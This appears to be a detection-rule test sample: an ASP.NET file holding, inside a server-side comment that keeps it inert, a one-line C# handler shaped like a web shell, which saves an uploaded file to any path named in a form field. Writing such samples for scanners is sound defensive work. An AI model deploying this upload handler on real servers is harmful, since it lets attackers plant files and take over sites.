<%-- exir test sample: inert text in the shape of a web shell, written for rule tests. The server-side comment around it keeps ASP.NET from running any of it.
<%@ Page Language="C#" %><% if (Request.Files.Count != 0) { Request.Files[0].SaveAs(Server.MapPath("./") + Request.Form["exir_path"]); } %>
--%>
